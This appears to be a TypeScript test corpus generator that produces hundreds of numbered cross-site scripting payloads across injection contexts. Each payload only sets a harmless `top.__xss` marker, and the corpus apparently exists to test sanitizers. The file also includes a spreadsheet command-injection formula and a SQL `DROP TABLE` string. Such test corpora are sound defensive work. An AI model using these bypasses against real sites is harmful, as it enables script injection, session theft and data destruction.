/**
 * What an attacker would put into a document, a title, a file name or a question so that a page runs it. Composed by
 * kinds: what opens an element, what leaves the place it was put in, what a filter overlooks, what comes to life when
 * the page is parsed once more. Each carries a call of its own: `top.__xss = id` tells that it ran, and which one.
 */

/** Where a page would have to put the text, unescaped, for it to run. */
export type Sink =
  | 'markup' // element.innerHTML = text
  | 'document' // written into the document by the server
  | 'double-quoted' // <input value="text">
  | 'single-quoted' // <input value='text'>
  | 'unquoted' // <input value=text>
  | 'address' // <a href="text">, clicked
  | 'script-string' // <script>let words = 'text'</script>
  | 'json' // <script>let answer = {"quote":"text"}</script>
  | 'style' // <style>.a{color:text}</style>
  | 'twice' // innerHTML read back and set again
  | 'none' // nothing a browser does with it alone: for templates, Markdown, streams

export interface Payload {
  readonly id: number
  readonly kind: string
  readonly sink: Sink
  readonly text: string
}

/** A payload before it has its number: `js` is the call it is to make. */
type Draft = (js: string) => string

const all = (...drafts: readonly Draft[]): readonly Draft[] => drafts
const each = <Item>(items: readonly Item[], draft: (item: Item) => Draft): readonly Draft[] => items.map(draft)
const cross = <A, B>(as: readonly A[], bs: readonly B[], draft: (a: A, b: B) => Draft): readonly Draft[] =>
  as.flatMap((a) => bs.map((b) => draft(a, b)))

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64')
const hex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)};`).join('')
const decimal = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)!}`).join('')
const padded = (text: string) => [...text].map((sign) => `&#${String(sign.codePointAt(0)!).padStart(7, '0')};`).join('')
const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
const escapes = (text: string) => [...text].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
const codes = (text: string) => `eval(String.fromCharCode(${[...text].map((sign) => sign.charCodeAt(0)).join()}))`
const wide = (text: string) => text.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0))

/** Elements that run a handler without anyone's help. */
const SELF_STARTING: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x onerror=${handler}>`,
  (handler) => `<img src=data:, onerror=${handler}>`,
  (handler) => `<img srcset=x onerror=${handler}>`,
  (handler) => `<image src=x onerror=${handler}>`,
  (handler) => `<svg><svg onload=${handler}>`,
  (handler) => `<video src=x onerror=${handler}></video>`,
  (handler) => `<video><source onerror=${handler}></video>`,
  (handler) => `<audio src=x onerror=${handler}></audio>`,
  (handler) => `<input autofocus onfocus=${handler}>`,
  (handler) => `<input type=image src=x onerror=${handler}>`,
  (handler) => `<textarea autofocus onfocus=${handler}></textarea>`,
  (handler) => `<select autofocus onfocus=${handler}></select>`,
  (handler) => `<button autofocus onfocus=${handler}>`,
  (handler) => `<a href=#x autofocus tabindex=1 onfocus=${handler}>`,
  (handler) => `<div contenteditable autofocus onfocus=${handler}>`,
  (handler) => `<details open ontoggle=${handler}>`,
  (handler) => `<iframe onload=${handler}></iframe>`,
  (handler) => `<object data=x onerror=${handler}></object>`,
  (handler) => `<object data=data:text/html, onload=${handler}></object>`,
  (handler) => `<embed src=data:text/html, onload=${handler}>`,
  (handler) => `<link rel=stylesheet href=x onerror=${handler}>`,
  (handler) => `<style onload=${handler}></style>`,
  (handler) => `<marquee width=1 loop=1 onstart=${handler}>字</marquee>`,
  (handler) => `<svg><animate attributeName=x dur=1ms onbegin=${handler}>`,
  (handler) => `<svg><set attributeName=x onbegin=${handler}>`,
  (handler) => `<svg><image href=x onerror=${handler}>`,
  (handler) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=${handler}>字</b>`,
  (handler) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend=${handler}>字</b>`,
]

/** Those that do so only where the page is written, not where it is set. */
const SELF_STARTING_WRITTEN: readonly ((handler: string) => string)[] = [
  (handler) => `<svg onload=${handler}>`,
  (handler) => `<svg><style onload=${handler}></style></svg>`,
  (handler) => `<svg><script href=x onerror=${handler}></script></svg>`,
  (handler) => `<body onload=${handler}>`,
  (handler) => `<body onpageshow=${handler}>`,
  (handler) => `<body onresize=${handler} onfocus=${handler} onload=${handler}>`,
  (handler) => `<html onmouseover=${handler}>字`,
]

/** Elements that wait for a hand. */
const MOVED = ['onclick', 'onmouseover', 'onmouseenter', 'onpointerdown', 'onpointerover', 'onwheel', 'onauxclick', 'ondblclick', 'onkeydown', 'oncopy', 'onpaste', 'ondrop', 'ondragstart', 'oncontextmenu', 'onscrollend', 'ontouchstart']

/** Handlers that can be written so that none of these signs is needed, or so that it looks like something else. */
const DISGUISED: readonly Draft[] = all(
  (js) => `"${js}"`,
  (js) => `'${js}'`,
  (js) => `\`${js}\``,
  (js) => hex(js),
  (js) => decimal(js),
  (js) => padded(js),
  (js) => codes(js),
  (js) => `eval(atob('${base64(js)}'))`,
  (js) => `"[].constructor.constructor('${js}')()"`,
  (js) => `"setTimeout('${js}')"`,
  (js) => `"javascript:${js}"`,
  (js) => `"void 0;${js}//"`,
  (js) => `"&NewLine;${js}"`,
  (js) => `"t\\u006fp${js.slice(3)}"`,
  (js) => `"[1].map(n=>{${js}})"`,
  (js) => `"with(top)__xss${js.slice(js.indexOf('='))}"`,
)

/** What may stand between the parts of a tag. */
const GAPS = ['\t', '\n', '\r', '\f', '/', '/ /', '\n\n\t', ' \u00a0 ']

const IMAGE: Draft = (js) => `<img src=x onerror=${js}>`

/** Ways to spell an address that runs. */
const ADDRESSES: readonly Draft[] = all(
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `\u001f\u0020javascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\r\nscript:${js}`,
  (js) => `javascript\t:${js}`,
  (js) => `\njavascript:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `javascript://example.org/%0d%0a${js}`,
  (js) => `javascript:/*/read/d-1*/${js}`,
  (js) => `javascript:${percent(js)}`,
  (js) => `javascript:"<script>${js}</script>"`.replaceAll('"', "'"),
  (js) => `javascript:void(${js})`,
  (js) => `javascript:'/read/';${js}`,
  (js) => `java&Tab;script:${js}`,
  (js) => `java&NewLine;script&colon;${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `&#x6A&#x61&#x76&#x61script:${js}`,
  (js) => `${hex('javascript:')}${js}`,
  (js) => `${padded('javascript:')}${js}`,
  (js) => `javascript&#58;${js}`,
)

/** Addresses that ran once, or elsewhere. */
const OTHER_ADDRESSES: readonly Draft[] = all(
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${base64(`<script>${js}</script>`)}`,
  (js) => `data:text/html;charset=utf-7,+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  (js) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}`,
  (js) => `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${js}</script></html>`,
  (js) => `data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${js}</script></x>`,
  (js) => `DATA:TEXT/HTML,<svg onload=${js}>`,
  (js) => `vbscript:execute("${js}")`,
  (js) => `VbScRiPt:${js}`,
  (js) => `livescript:${js}`,
  (js) => `mocha:${js}`,
  (js) => `feed:javascript:${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `jar:javascript:${js}!/`,
  (js) => `blob:javascript:${js}`,
  (js) => `filesystem:javascript:${js}`,
  (js) => `//elsewhere.example/${percent(`<script>${js}</script>`)}`,
  (js) => `\\\\elsewhere.example\\x.js#${js}`,
  (js) => `/\\elsewhere.example/?${js}`,
  (js) => `ｊavascript:${js}`,
  (js) => `javascript\u200b:${js}`,
)

/** Elements that take an address. */
const LINKED: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">字</a>`,
  (address) => `<svg><a href="${address}"><text y=9>字</text></a></svg>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>字</text></a></svg>`,
  (address) => `<form action="${address}"><button>字</button></form>`,
  (address) => `<form><button formaction="${address}">字</button></form>`,
  (address) => `<form><input type=submit formaction="${address}"></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<map name=m><area href="${address}" shape=default></map><img usemap=#m src=data:,>`,
  (address) => `<math><mtext href="${address}">字</mtext></math>`,
  (address) => `<base href="${address}"><a href="#">字</a>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<svg><use href="${address}#x"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}" fill=freeze dur=1ms /><text y=9>字</text></a></svg>`,
  (address) => `<svg><a><set attributeName=href to="${address}"/><text y=9>字</text></a></svg>`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<table background="${address}"><td>字</table>`,
  (address) => `<isindex action="${address}" type=submit>`,
]

/** What a text may be shut in, and how it leaves. */
const CLOSINGS = ['</textarea>', '</title>', '</style>', '</script >', '</noscript>', '</template>', '</iframe>', '</noembed>', '</noframes>', '</xmp>', '</select>', '</option>', '</svg>', '</math>', '</button>', '</table>', '-->', '--!>', ']]>', '*/', '?>', '%>', '</mark></p></main>', '</blockquote></li></ol>', '"></div>']

/** Two readings of one text: what a filter saw is not what the page becomes. */
const MUTATING: readonly Draft[] = all(
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  (js) => `<math><mtext><mglyph><malignmark></mtext><style><img src=x onerror=${js}></style>`,
  (js) => `<svg><style>&lt;img src=x onerror=${js}&gt;</style></svg>`,
  (js) => `<math><style>&lt;/style&gt;&lt;img src=x onerror=${js}&gt;</style></math>`,
  (js) => `<svg><title><![CDATA[</title><img src=x onerror=${js}>]]></title></svg>`,
  (js) => `<svg><desc><noembed></desc><img src=x onerror=${js}></noembed></svg>`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  (js) => `<svg><foreignObject><math><mi><img src=x onerror=${js}></mi></math></foreignObject></svg>`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  (js) => `<noembed><p title="</noembed><img src=x onerror=${js}>">`,
  (js) => `<noframes><p title="</noframes><img src=x onerror=${js}>">`,
  (js) => `<template><s title="</template><img src=x onerror=${js}>">`,
  (js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  (js) => `<select><template><img src=x onerror=${js}></template></select><select><img src=x onerror=${js}>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!---><img src=x onerror=${js}>-->`,
  (js) => `<!-- --!><img src=x onerror=${js}>-->`,
  (js) => `<!x><img src=x onerror=${js}>`,
  (js) => `<?x ><img src=x onerror=${js}>?>`,
  (js) => `</ ><img src=x onerror=${js}>`,
  (js) => `</p/title="><img src=x onerror=${js}>">`,
  (js) => `<a title="\`"></a><img title="\`" src=x onerror=${js}>`,
  (js) => `<p id="<img src=x onerror=${js}>`,
  (js) => `<table><tr><td><svg><style><td title="</style><img src=x onerror=${js}>">`,
  (js) => `<b><svg></b><img src=x onerror=${js}></svg>`,
  (js) => `<img alt="<x" title="/><img src=x onerror=${js}>">`,
  (js) => `<svg><script><!--&lt;/script&gt;--><img src=x onerror=${js}></script></svg>`,
)

const KINDS: readonly (readonly [kind: string, sink: Sink, drafts: readonly Draft[]])[] = [
  [
    'script elements',
    'document',
    all(
      (js) => `<script>${js}</script>`,
      (js) => `<SCRIPT>${js}</SCRIPT>`,
      (js) => `<ScRiPt>${js}</sCrIpT>`,
      (js) => `<script >${js}</script >`,
      (js) => `<script/x>${js}</script>`,
      (js) => `<script\n>${js}</script\n>`,
      (js) => `<script type=module>${js}</script>`,
      (js) => `<script type="text/javascript" charset=utf-8>${js}</script>`,
      (js) => `<script src="data:text/javascript,${js}"></script>`,
      (js) => `<script src=data:;base64,${base64(js)}></script>`,
      (js) => `<<script>${js}//<</script>`,
      (js) => `<scr<script>ipt>${js}</script>`,
      (js) => `<script>${js}`,
      (js) => `<script>/*${'填充'.repeat(40)}*/${js}</script>`,
      (js) => `<script><!--\n${js}\n--></script>`,
      (js) => `<svg><script>${js}</script></svg>`,
      (js) => `<svg><script>${hex(js)}</script></svg>`,
      (js) => `<svg><script href="data:text/javascript,${js}"></script></svg>`,
      (js) => `<svg><script xlink:href="data:text/javascript,${js}"></script></svg>`,
      (js) => `<math><mtext><script>${js}</script></mtext></math>`,
      (js) => `<script>${escapes('eval')}('${js}')</script>`,
      (js) => `<script>onerror=n=>{${js}};throw 1</script>`,
      (js) => `<script>document.body.innerHTML='${IMAGE(js)}'</script>`,
      (js) => `<script>import('data:text/javascript,${js}')</script>`,
      (js) => `<script>Promise.resolve().then(()=>{${js}})</script>`,
      (js) => `<template shadowrootmode=open><script>${js}</script></template>`,
    ),
  ],
  ['elements that start by themselves', 'markup', each(SELF_STARTING, (element) => (js) => element(js))],
  ['elements that start where they are written', 'document', each(SELF_STARTING_WRITTEN, (element) => (js) => element(js))],
  ['handlers waiting for a hand', 'markup', each(MOVED, (event) => (js) => `<b tabindex=0 ${event}=${js}>字</b>`)],
  ['disguised handlers', 'markup', each(DISGUISED, (disguise) => (js) => `<img src=x onerror=${disguise(js)}>`)],
  ['disguised handlers in svg', 'document', each(DISGUISED, (disguise) => (js) => `<svg onload=${disguise(js)}>`)],
  ['gaps inside a tag', 'markup', each(GAPS, (gap) => (js) => `<img${gap}src=x${gap}onerror=${js}>`)],
  ['gaps around the sign', 'document', each(['\t', '\n', '\r', '\f'], (gap) => (js) => `<svg/onload${gap}=${gap}${js}>`)],
  [
    'tags as filters do not expect them',
    'markup',
    all(
      (js) => `<IMG SRC=x ONERROR=${js}>`,
      (js) => `<iMg SrC=x oNeRrOr=${js}>`,
      (js) => `<img src=x onerror=${js}`,
      (js) => `<img src=x onerror=${js} <`,
      (js) => `<img src=x onerror=${js}//`,
      (js) => `<<img src=x onerror=${js}>`,
      (js) => `<x><img src=x onerror=${js}></x>`,
      (js) => `<img src=x:x onerror=${js} onerror=0>`,
      (js) => `<img src="x" a="'>" onerror=${js}>`,
      (js) => `<img """><img src=x onerror=${js}>">`,
      (js) => `<img src=\`x\` onerror=${js}>`,
      (js) => `<img ${'a '.repeat(200)}src=x onerror=${js}>`,
      (js) => `${'<b>'.repeat(300)}<img src=x onerror=${js}>`,
      (js) => `<custom-element><img src=x onerror=${js}></custom-element>`,
      (js) => `<img is=x src=x onerror=${js}>`,
      (js) => `<a\u00a0b><img src=x onerror=${js}>`,
    ),
  ],
  ['addresses that run', 'address', ADDRESSES],
  ['addresses that ran once', 'none', OTHER_ADDRESSES],
  ['elements that take an address', 'markup', each(LINKED, (element) => (js) => element(`javascript:${js}`))],
  ['elements that take an address, spelt apart', 'markup', each(LINKED.slice(0, 10), (element) => (js) => element(`java&#9;script&#58;${js}`))],
  [
    'documents inside a document',
    'markup',
    all(
      (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
      (js) => `<iframe srcdoc='<img src=x onerror=${js}>'></iframe>`,
      (js) => `<iframe srcdoc=&lt;svg/onload=${js}&gt;></iframe>`,
      (js) => `<iframe srcdoc="&#60;script&#62;${js}&#60;/script&#62;"></iframe>`,
      (js) => `<iframe srcdoc="${hex(`<svg onload=${js}>`)}"></iframe>`,
      (js) => `<iframe srcdoc="<iframe srcdoc='<svg onload=${js}>'></iframe>"></iframe>`,
      (js) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<svg onload=${js}>"></iframe>`,
      (js) => `<iframe src="about:blank" srcdoc="<body onload=${js}>"></iframe>`,
    ),
  ],
  ['out of double quotes', 'double-quoted', all((js) => `" autofocus onfocus="${js}`, (js) => `"autofocus onfocus=${js} x="`, (js) => `"><img src=x onerror=${js}>`, (js) => `"/><svg onload=${js}>`, (js) => `"\n\tautofocus\n\tonfocus="${js}`, (js) => `\\"><img src=x onerror=${js}>`, (js) => `" style="animation:k 1ms" autofocus onfocus="${js}`, (js) => `"><script>${js}</script>`, (js) => `"></input></p><img src=x onerror=${js}>`)],
  ['out of single quotes', 'single-quoted', all((js) => `' autofocus onfocus='${js}`, (js) => `'autofocus onfocus=${js} x='`, (js) => `'><img src=x onerror=${js}>`, (js) => `'/><svg onload=${js}>`, (js) => `\\'><img src=x onerror=${js}>`, (js) => `'><script>${js}</script>`)],
  ['out of no quotes', 'unquoted', all((js) => `x autofocus onfocus=${js}`, (js) => `x\nautofocus\nonfocus=${js}`, (js) => `x\tautofocus onfocus=${js}`, (js) => `x><img src=x onerror=${js}>`, (js) => `x\fautofocus onfocus=${js}`)],
  ['out of what holds it', 'markup', each(CLOSINGS, (closing) => (js) => `${closing}<img src=x onerror=${js}>`)],
  [
    'out of a string of a script',
    'script-string',
    all(
      (js) => `';${js};'`,
      (js) => `';${js}//`,
      (js) => `'-(${js})-'`,
      (js) => `'+(${js})+'`,
      (js) => `'||(${js})||'`,
      (js) => `';window[(${js},'x')]='`,
      (js) => `</script><script>${js}</script>`,
      (js) => `</script><svg onload=${js}>`,
      (js) => `</ScRiPt ><img src=x onerror=${js}>`,
      (js) => `<!--<script>';${js}//`,
      (js) => `'}${js};{'`,
      (js) => `\\';${js}//`,
      (js) => `\\u0027;${js}//`,
      (js) => `';\u2028${js}\u2028'`,
    ),
  ],
  [
    'out of JSON',
    'json',
    all(
      (js) => `"};${js};window.x={"a":"`,
      (js) => `"+(${js})+"`,
      (js) => `","b":(${js}),"c":"`,
      (js) => `</script><script>${js}//`,
      (js) => `</script><img src=x onerror=${js}>`,
      (js) => `"}//\u2028;${js};window.x={"a":"`,
      (js) => `","__proto__":{"x":(${js})},"z":"`,
    ),
  ],
  ['out of a style sheet', 'style', all((js) => `red}</style><img src=x onerror=${js}>`, (js) => `red}</style><script>${js}</script><style>`, (js) => `red}/*</style><svg onload=${js}>*/`, (js) => `</STYLE ><img src=x onerror=${js}>`)],
  [
    'style sheets that ran once',
    'none',
    all(
      (js) => `<b style="width:expression(${js})">字</b>`,
      (js) => `<b style="w\\69 dth:e\\78pression(${js})">字</b>`,
      (js) => `<b style="background:url('javascript:${js}')">字</b>`,
      (js) => `<b style="behavior:url(#default#x);-x:${js}">字</b>`,
      (js) => `<b style="-moz-binding:url(data:text/xml,${js})">字</b>`,
      (js) => `<style>@import 'javascript:${js}';</style>`,
      (js) => `<style>@import url("data:text/css,*{x:expression(${js})}");</style>`,
      (js) => `<style>body{background:url("javascript:${js}")}</style>`,
      (js) => `<link rel=stylesheet href="javascript:${js}">`,
      (js) => `<style>a::after{content:"</style><!-- ${js} -->"}</style>`,
    ),
  ],
  ['two readings of one text', 'twice', MUTATING],
  ['entities read once', 'none', all((js) => `&lt;script&gt;${js}&lt;/script&gt;`, (js) => `&#60;img src=x onerror=${js}&#62;`, (js) => `&#x3c;img src=x onerror=${js}&#x3e;`, (js) => `&lt img src=x onerror=${js}&gt`, (js) => `&LT;svg onload=${js}&GT;`, (js) => `&#0000060;svg onload=${js}&#0000062;`, (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`, (js) => `&amp;#60;img src=x onerror=${js}&amp;#62;`)],
  ['other spellings of the sign', 'none', all((js) => percent(`<script>${js}</script>`), (js) => `%253Cscript%253E${js}%253C/script%253E`, (js) => escapes(`<img src=x onerror=${js}>`), (js) => `\\x3cimg src=x onerror=${js}\\x3e`, (js) => `\\74svg onload=${js}\\76`, (js) => wide(`<script>${js}</script>`), (js) => `＜img src=x onerror=${js}＞`, (js) => `〈img src=x onerror=${js}〉`, (js) => `‹script›${js}‹/script›`, (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`, (js) => `\u00c0\u00bcscript\u00c0\u00be${js}`, (js) => `ʺ><img src=x onerror=${js}>`, (js) => `\u02ba onfocus=${js}`, (js) => `<ſcript>${js}</ſcript>`, (js) => `<ımg src=x onerror=${js}>`)],
  ['signs nobody sees', 'none', all((js) => `<\u0000script>${js}</script>`, (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`, (js) => `<scr\u200bipt>${js}</script>`, (js) => `<\ufeffscript>${js}</script>`, (js) => `<im\u00adg src=x onerror=${js}>`, (js) => `<s\u0301cript>${js}</script>`, (js) => `<\u2060svg onload=${js}>`, (js) => `<\ud800img src=x onerror=${js}>`)],
  ['signs nobody sees, between', 'markup', all((js) => `\u0000<img src=x onerror=${js}>`, (js) => `<img src=x\u0000y onerror=${js}>`, (js) => `\ufeff<svg onload=${js}>`, (js) => `\u202e<img src=x onerror=${js}>\u202c`, (js) => `\u2066<img alt="\u2069\u2066" src=x onerror=${js}>\u2069`, (js) => `\u200f<svg onload=${js}>\u200e`, (js) => `\ud800<img src=x onerror=${js}>\udc00`, (js) => `${'\u0301'.repeat(60)}<img src=x onerror=${js}>`, (js) => `\u2028<img\u000csrc=x\u000conerror=${js}>\u2029`, (js) => `\u0085<svg onload=${js}>`)],
  [
    'templates',
    'none',
    all(
      (js) => `{{constructor.constructor('${js}')()}}`,
      (js) => `{{$on.constructor('${js}')()}}`,
      (js) => `{{[].pop.constructor('${js}')()}}`,
      (js) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${js}//')}}`,
      (js) => `{{{${js}}}}`,
      (js) => `\${${js}}`,
      (js) => `\`+(${js})+\``,
      (js) => `#{${js}}`,
      (js) => `<%= ${js} %>`,
      (js) => `<%- '<img src=x onerror=${js}>' %>`,
      (js) => `{% raw %}<img src=x onerror=${js}>{% endraw %}`,
      (js) => `{{ '<img src=x onerror=${js}>' | safe }}`,
      (js) => `[[${js}]]`,
      (js) => `{!! '<svg onload=${js}>' !!}`,
      (js) => `@(${js})`,
      (js) => `*{${js}}`,
      (js) => `<div ng-app ng-csp>{{$eval.constructor('${js}')()}}</div>`,
      (js) => `<div v-html="'<img src=x onerror=${js}>'"></div>`,
      (js) => `<div x-data x-init="${js}"></div>`,
      (js) => `<div data-bind="html:'<svg onload=${js}>'"></div>`,
      (js) => `<div hx-on:load="${js}"></div>`,
      (js) => `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${js}>'}} />`,
      (js) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js}>"}}}`,
      (js) => `{"constructor":{"prototype":{"innerHTML":"<img src=x onerror=${js}>"}}}`,
      (js) => `{"__proto__":{"href":"javascript:${js}","srcdoc":"<svg onload=${js}>"}}`,
    ),
  ],
  [
    'Markdown',
    'none',
    all(
      (js) => `[字](javascript:${js})`,
      (js) => `[字](JaVaScRiPt:${js})`,
      (js) => `[字]( javascript:${js})`,
      (js) => `[字](java\tscript:${js})`,
      (js) => `[字](javascript&colon;${js})`,
      (js) => `[字](&#106;avascript:${js})`,
      (js) => `[字](<javascript:${js}>)`,
      (js) => `[字](data:text/html;base64,${base64(`<script>${js}</script>`)})`,
      (js) => `[字](vbscript:${js})`,
      (js) => `![字](javascript:${js})`,
      (js) => `![字](x"onerror="${js})`,
      (js) => `![字](x 'a" onerror="${js}')`,
      (js) => `![" onerror=${js} x="](x)`,
      (js) => `[字](/read/d-1 "\\"><img src=x onerror=${js}>")`,
      (js) => `[字][1]\n\n[1]: javascript:${js}`,
      (js) => `[字]\n\n[字]: javascript:${js} "题"`,
      (js) => `<javascript:${js}>`,
      (js) => `[![字](x)](javascript:${js})`,
      (js) => `\`\`\`html\n<img src=x onerror=${js}>\n\`\`\`\n</code></pre><img src=x onerror=${js}>`,
      (js) => `\`\`\`"><img src=x onerror=${js}>\n字\n\`\`\``,
      (js) => `> <img src=x onerror=${js}>`,
      (js) => `| 甲 |\n| --- |\n| <svg onload=${js}> |`,
      (js) => `# 题 {onclick=${js}}`,
      (js) => `[^1]\n\n[^1]: <img src=x onerror=${js}>`,
      (js) => `$\\href{javascript:${js}}{字}$`,
      (js) => `$$\\unicode{<img src=x onerror=${js}>}$$`,
      (js) => `- [ ] <details open ontoggle=${js}>`,
      (js) => `http://elsewhere.example/"onmouseover="${js}`,
    ),
  ],
  [
    'streams and files',
    'none',
    all(
      (js) => `\n\nevent: done\ndata: {"text":"<img src=x onerror=${js}>"}\n\n`,
      (js) => `\r\n\r\nevent: segment\r\ndata: {"kind":"quotation","text":"<svg onload=${js}>"}\r\n\r\n`,
      (js) => `\rdata: <img src=x onerror=${js}>\r\r`,
      (js) => `:\nid: 1\nretry: 0\ndata: javascript:${js}\n\n`,
      (js) => `\r\nContent-Type: text/html\r\n\r\n<script>${js}</script>`,
      (js) => `\nLocation: javascript:${js}\n`,
      (js) => `"; filename*=UTF-8''${percent(`<img src=x onerror=${js}>`)}`,
      (js) => `<img src=x onerror=${js}>.txt`,
      (js) => `../"><svg onload=${js}>/决定.txt`,
      (js) => `=cmd|'/C ${js}'!A1`,
      (js) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "<img src='x' onerror='${js}'/>">]><x>&y;</x>`,
      (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
      (js) => `?q=</script><img src=x onerror=${js}>`,
      (js) => `#"><img src=x onerror=${js}>`,
      (js) => `'; DROP TABLE exchanges; --<img src=x onerror=${js}>`,
    ),
  ],
  ['names that shadow', 'markup', all((js) => `<a id=__inside></a><a id=__inside name=shift href="javascript:${js}">字</a>`, (js) => `<form id=document><input name=getElementById value="${js}"></form><img src=x onerror=${js}>`, (js) => `<img name=currentScript src=x onerror=${js}>`, (js) => `<iframe name=trustedTypes srcdoc="<svg onload=${js}>"></iframe>`, (js) => `<form name=body><input name=innerHTML value=x></form><svg onload=${js}>`)],
  [
    'words of a document around it',
    'markup',
    cross(['第二条 有下列情形之一的，予以退款：', '《关于<b>促进</b>发展的决定》', '“超过4%”'], SELF_STARTING.slice(0, 4), (words, element) => (js) => `${words}${element(js)}${words}`),
  ],
]

/** All of them, numbered from 1; no two alike. */
export const PAYLOADS: readonly Payload[] = KINDS.flatMap(([kind, sink, drafts]) => drafts.map((draft) => ({ kind, sink, draft }))).map(
  ({ kind, sink, draft }, at) => ({ id: at + 1, kind, sink, text: draft(`top.__xss=${at + 1}`) }),
)
